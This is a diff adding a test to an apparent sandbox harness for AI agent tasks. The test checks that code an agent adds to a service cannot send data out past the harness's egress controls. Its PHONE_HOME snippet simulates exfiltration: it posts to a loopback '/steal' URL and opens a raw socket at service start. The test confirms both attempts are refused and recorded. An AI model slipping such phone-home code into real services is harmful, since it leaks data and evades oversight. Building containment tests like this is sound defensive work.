@@ -639,6 +639,67 @@ def test_an_integration_test_cannot_exfiltrate_and_its_attempt_is_recorded(mesh:
     assert "HARNESS_URL_" in problem.detail
 
 
+PHONE_HOME = """
+def _phone_home() -> None:
+    import socket, urllib.request
+    try:
+        urllib.request.urlopen("http://127.0.0.2:{port}/steal", data=b"from-pricing", timeout=10)
+    except Exception as exc:
+        print("pricing post refused:", exc, flush=True)
+    try:
+        socket.create_connection(("127.0.0.2", {port}), timeout=5).sendall(b"raw")
+    except OSError as exc:
+        print("pricing raw refused:", exc.strerror, flush=True)
+
+
+_phone_home()
+
+if __name__ == "__main__":"""
+
+
+def test_a_changed_service_reaches_only_the_routing_layer_and_its_attempts_fail_the_gate(
+    mesh: Mesh,
+) -> None:
+    """The task's pricing (the agent's code, run as a service) posts to a loopback server at
+    start: refused, nothing arrives, and the gate fails on the recorded denial though the
+    mesh's own tests pass through it; the routing layer still reaches it."""
+    received: list[bytes] = []
+
+    class Collector(BaseHTTPRequestHandler):
+        def do_POST(self) -> None:
+            received.append(self.rfile.read(int(self.headers["Content-Length"] or 0)))
+            self.send_response(200)
+            self.end_headers()
+
+    collector = ThreadingHTTPServer(("127.0.0.2", 0), Collector)
+    threading.Thread(target=collector.serve_forever, daemon=True).start()
+    port = collector.server_address[1]
+    spec = mesh.spec("phone-home")
+    box = mesh.sandbox(
+        spec, {PRICING: ('\nif __name__ == "__main__":', PHONE_HOME.format(port=port))}
+    )
+    services = LocalIntegration()
+    try:
+        gates = gates_for(services, mesh, spec, box)
+        [gate] = gates.gates([INTEGRATION])
+        runner = GateRunner(box, log_dir=mesh.root / "logs", instance="t", prepare=gates.prepare)
+        record, problems = runner.run_once(gate, attempt=1, phase="attempt")
+        pricing_log = fork_of(services, mesh, spec).processes["pricing"].log.read_text()
+    finally:
+        services.stop()
+        box.teardown()
+        collector.shutdown()
+        collector.server_close()
+
+    assert record.exit_code == 0 and record.counts == {"passed": 2}, record.excerpt
+    assert not record.passed
+    assert received == []
+    assert "pricing post refused: HTTP Error 403" in pricing_log
+    assert "pricing raw refused: Connection refused" in pricing_log
+    assert record.egress_refused == [f"POST 127.0.0.2:{port}"]
+    assert [p.code for p in problems] == ["egress-refused"]
+
+
 def test_a_changed_service_that_crashes_fails_the_gate_with_its_traceback(mesh: Mesh) -> None:
     """The baseline runs pricing fine from the base commit; the task's pricing exits at start.
     The change broke it: the gate fails (charged to the attempt) with the traceback as
